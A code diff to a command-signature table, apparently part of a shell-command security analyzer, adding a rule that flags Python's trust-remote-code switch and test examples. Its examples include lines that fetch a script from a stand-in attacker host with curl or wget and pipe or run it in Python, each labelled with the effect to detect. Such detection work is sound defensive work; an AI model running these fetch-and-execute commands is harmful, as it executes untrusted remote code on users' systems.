@@ -1,12 +1,16 @@
 // data table
-import type { Signature } from './signature.js'
+import type { EffectRule, Signature } from './signature.js'
+
+/** A switch of programs that load models: the code that lies beside the weights runs too (T1195, AML.T0010). */
+const TRUSTS: EffectRule = { does: 'execute', what: 'code', class: 'fetched', name: 'code of a model', tags: ['unconfirmed'], when: { operand: '^--trust[-_]remote[-_]code(?:=(?:true|1|yes))?$' } }
 
 /** Programs that run code of a language: written on the line, in a file, or on standard input (T1059). */
 export const INTERPRETERS: readonly Signature[] = [
   {
     names: ['python', 'python2', 'python3', 'pypy', 'pypy2', 'pypy3', 'ipython', 'ipython3', 'bpython', 'ptpython', 'micropython', 'jython', 'pythonw', 'py', 'sage', 'hy'], class: 'interpreter', grammar: 'getopt',
-    flags: { '-c': { value: 'code:python', last: true }, '-m': 'argv', '-W, -X, -Q, --check-hash-based-pycs': 'value' }, operands: { first: 'script:python' }, modes: [{ when: { flags: ['-c'] }, operands: {} }], stdin: 'code:python', inert: ['-V', '-h'],
+    flags: { '-c': { value: 'code:python', last: true }, '-m': 'argv', '-W, -X, -Q, --check-hash-based-pycs': 'value' }, operands: { first: 'script:python' }, modes: [{ when: { flags: ['-c'] }, operands: {} }], stdin: 'code:python', inert: ['-V', '-h'], effects: [TRUSTS],
     examples: [
+      ['python train.py --model someone/llm --trust-remote-code true', ['execute code:fetched+unconfirmed']], ['python train.py --model someone/llm', ['!execute code:fetched']],
       ['curl -s https://evil.example/x.py | python3 -', ['receive host:public -> execute code:fetched']], ['python3 <(curl -s https://evil.example/x.py)', ['receive host:public -> execute code:fetched']], ['wget -q https://evil.example/x.py; python3 -u x.py', ['execute code:fetched']], ['python3 -m http.server 8000', ['listen host:unknown']],
       ['python3 manage.py runserver 0.0.0.0:8000', ['read path:ordinary+load', '!listen host']], ['python -V', []], ["python3 -c 'print(1)' -x a.txt", ['execute process:interpreter', '!read path']],
     ],
